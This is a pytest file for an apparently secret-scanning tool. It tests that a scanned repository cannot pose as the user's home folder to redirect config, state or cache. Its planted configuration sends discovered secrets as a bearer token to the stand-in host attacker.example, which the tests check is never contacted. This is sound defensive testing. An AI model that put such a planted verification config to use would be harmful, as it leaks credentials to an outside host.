"""The user's own folders, where the environment does not say where they are, or names the scanned repository."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from keyguard.cli import main
from keyguard.support import userdirs
from tests.helpers.calling import NOW, Inside, Keyguard
from tests.helpers.checkout import leaking_line, made_up_key
from tests.helpers.repos import Repo

pytest_plugins = ("tests.helpers.commandline",)

CONFIG = """
[network]
allow-hosts = ["attacker.example"]
[vendors.sendmailos.verify]
url = "https://attacker.example/x"
headers = { Authorization = "Bearer {secret}" }
answers = [{ status = [200], verdict = "active" }]
"""
#: each as a variable and its value, where ``@`` stands for the repository
ENVIRONMENTS = [
    {},
    {"HOME": ""},
    {"HOME": "."},
    {"HOME": "../repo"},
    {"HOME": "@"},
    {"HOME": "@/."},
    {"HOME": "@-link"},
    {"HOME": "@/sub/.."},
    {"XDG_CONFIG_HOME": ".config", "XDG_STATE_HOME": ".local/state", "XDG_CACHE_HOME": ".cache"},
    {"XDG_CONFIG_HOME": "@/.config", "XDG_STATE_HOME": "@/.local/state", "XDG_CACHE_HOME": "@/.cache"},
    {
        "KEYGUARD_USER_CONFIG": ".config/keyguard/config.toml",
        "KEYGUARD_STATE_DIR": ".local/state/keyguard",
        "KEYGUARD_CACHE_DIR": ".cache/keyguard",
    },
    {
        "KEYGUARD_USER_CONFIG": "@-link/.config/keyguard/config.toml",
        "KEYGUARD_STATE_DIR": "@-link/.local/state/keyguard",
        "KEYGUARD_CACHE_DIR": "@/.cache/keyguard",
    },
    {"KEYGUARD_USER_CONFIG": "@-file.toml"},
    {"APPDATA": ".config", "LOCALAPPDATA": ".local/state"},
]


@pytest.fixture
def planted(repo: Repo) -> Repo:
    """A repository that would be the user's home folder, with a configuration and a journal in it."""
    repo.write(".config/keyguard/config.toml", CONFIG)
    repo.write(".local/state/keyguard/journal.jsonl", "{}\n")
    repo.write(".env.py", leaking_line(1)).write("sub/a.txt", "a\n")
    (repo.path.parent / "repo-link").symlink_to(repo.path)
    (repo.path.parent / "repo-file.toml").symlink_to(repo.path / ".config/keyguard/config.toml")
    return repo


@pytest.fixture
def registered(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The home folder in the password database."""
    home = tmp_path / "registered"
    home.mkdir()
    monkeypatch.setattr(userdirs, "_registered_home", lambda: str(home))
    return home


@pytest.fixture
def bare(monkeypatch: pytest.MonkeyPatch) -> pytest.MonkeyPatch:
    """An environment in which nothing says where folders are."""
    for name in [name for name in os.environ if name.startswith(("KEYGUARD_", "XDG_")) or name == "HOME"]:
        monkeypatch.delenv(name)
    monkeypatch.setenv("SOURCE_DATE_EPOCH", NOW)
    return monkeypatch


@pytest.mark.parametrize("variables", ENVIRONMENTS, ids=str)
def test_nothing_of_the_repository_is_the_users(
    variables: dict[str, str], planted: Repo, registered: Path, bare: pytest.MonkeyPatch
) -> None:
    bare.chdir(planted.path)
    environment = {name: value.replace("@", str(planted.path)) for name, value in variables.items()}
    found = []
    for root in (".", "sub", "sub/a.txt", "../repo-link/sub"):
        with userdirs.apart_from([root]):
            found += [
                userdirs.config_file(environment),
                userdirs.state_folder(environment),
                userdirs.cache_folder(environment),
            ]
    assert not [path for path in filter(None, found) if Path(path).resolve().is_relative_to(planted.path.resolve())]
    assert all(path == "" or Path(path).is_relative_to(registered) for path in found)
    if not any("@" in value for value in variables.values()):
        assert all(found), "the password database says where they are"


def test_what_is_the_users_stays_his(tmp_path: Path, planted: Repo, bare: pytest.MonkeyPatch) -> None:
    home = tmp_path / "home"
    named = {"KEYGUARD_USER_CONFIG": str(tmp_path / "x.toml"), "KEYGUARD_STATE_DIR": str(tmp_path / "state")}
    with userdirs.apart_from([str(planted.path)]) as said:
        assert userdirs.config_file({"HOME": str(home)}) == f"{home}/.config/keyguard/config.toml"
        assert userdirs.state_folder({"HOME": str(home)}) == f"{home}/.local/state/keyguard"
        assert userdirs.cache_folder({"HOME": str(home)}) == f"{home}/.cache/keyguard"
        assert userdirs.config_file(named) == named["KEYGUARD_USER_CONFIG"]
        assert userdirs.state_folder(named) == named["KEYGUARD_STATE_DIR"]
    assert said == []


def test_a_project_below_a_home_that_is_a_repository_leaves_the_home_alone(planted: Repo) -> None:
    """Dotfiles are kept in such repositories; the project has one of its own."""
    inner = Repo(planted.path / "project")
    with userdirs.apart_from([str(inner.path)]):
        assert userdirs.config_file({"HOME": str(planted.path)})
    with userdirs.apart_from([str(planted.path / "sub")]):
        assert not userdirs.config_file({"HOME": str(planted.path)})


def test_a_file_that_is_scanned_does_not_make_its_folder_a_strangers(tmp_path: Path) -> None:
    (tmp_path / "a.py").touch()
    with userdirs.apart_from([str(tmp_path / "a.py"), "-"]):
        assert userdirs.config_file({"HOME": str(tmp_path)})
    with userdirs.apart_from([str(tmp_path)]):
        assert not userdirs.config_file({"HOME": str(tmp_path)})


def test_without_a_home_in_the_password_database_there_is_none(bare: pytest.MonkeyPatch) -> None:
    bare.setattr(userdirs, "_registered_home", lambda: "")
    for environment in ({}, {"HOME": "."}, {"XDG_CACHE_HOME": "x"}):
        assert not userdirs.home(environment)
        assert not userdirs.config_file(environment)
        assert not userdirs.state_folder(environment)
        assert not userdirs.cache_folder(environment)


@pytest.mark.parametrize("home", [None, "", "."])
def test_no_key_goes_where_the_repository_says(kg: Keyguard, planted: Repo, home: str | None) -> None:
    said = kg("verify", "--all", "--dry-run", cwd=planted.path, HOME=home)
    assert "GET" in said.out
    assert "attacker.example" not in said.out
    assert made_up_key(1) not in said.out + said.err
    assert said.err.count("config.toml is not read") == (home == ".")


def test_what_is_passed_over_is_said_once(inside: Inside, planted: Repo) -> None:
    variables = {"KEYGUARD_USER_CONFIG": "x.toml", "KEYGUARD_STATE_DIR": str(planted.path / ".local/state/keyguard")}
    said = inside("plan", "--all", cwd=planted.path, **variables)
    assert sorted(line for line in said.err.splitlines() if "KEYGUARD" in line) == [
        "keyguard: KEYGUARD_STATE_DIR names a place in what is scanned, so it is not used",
        "keyguard: KEYGUARD_USER_CONFIG is not an absolute path, so it is not used",
    ]


def test_a_planted_journal_vouches_for_no_key(
    inside: Inside,
    planted: Repo,
    registered: Path,
    own_cache: Path,
    capsys: pytest.CaptureFixture[str],
    bare: pytest.MonkeyPatch,
) -> None:
    bare.setenv("KEYGUARD_CACHE_DIR", str(own_cache))
    print_of = inside.scan(cwd=planted.path).document["findings"][0]["fingerprint"]
    entry = f'{{"action": "verify", "fingerprint": "{print_of}", "id": "KG-1", "vendor": "x", "outcome": "inactive"}}\n'
    planted.write(".local/state/keyguard/journal.jsonl", entry)
    bare.chdir(planted.path)
    for home in ("", ".", str(planted.path)):
        bare.setenv("HOME", home)
        main(["prove", print_of])
        out = capsys.readouterr().out
        assert "inactive" not in out
        assert "proven: it is gone" not in out


def test_the_rules_are_cached_where_the_password_database_says(
    planted: Repo, registered: Path, bare: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    bare.chdir(planted.path)
    bare.setenv("HOME", ".")
    planted.add("sub")
    assert main(["hook", "pre-commit"]) == 0
    assert list((registered / ".cache/keyguard").glob("rules-*.msgpack"))
    assert not (planted.path / ".cache").exists()
    assert capsys.readouterr().err == ""


def test_where_there_is_no_place_for_the_journal_nothing_is_asked(kg: Keyguard, planted: Repo, tmp_path: Path) -> None:
    (tmp_path / "site").mkdir()
    # whoever wanted to send anything would look up a name first
    (tmp_path / "site/sitecustomize.py").write_text(
        "import os, socket\nsocket.getaddrinfo = lambda *_, **__: os._exit(9)\n"
    )
    path = os.pathsep.join((str(tmp_path / "site"), kg.env["PYTHONPATH"]))
    said = kg("verify", "--all", cwd=planted.path, HOME=str(planted.path), PYTHONPATH=path)
    assert (said.code, said.out) == (2, "")
    assert "there is no place for the journal" in said.err
    assert (planted.path / ".local/state/keyguard/journal.jsonl").read_text() == "{}\n"


def test_certificates_that_the_users_file_names_are_looked_for_beside_it(tmp_path: Path) -> None:
    from keyguard.config import user_config

    file = tmp_path / "config.toml"
    file.write_text('[network]\nca-file = "ours.pem"\n')
    assert user_config.load(str(file)).network.ca_file == str(tmp_path / "ours.pem")
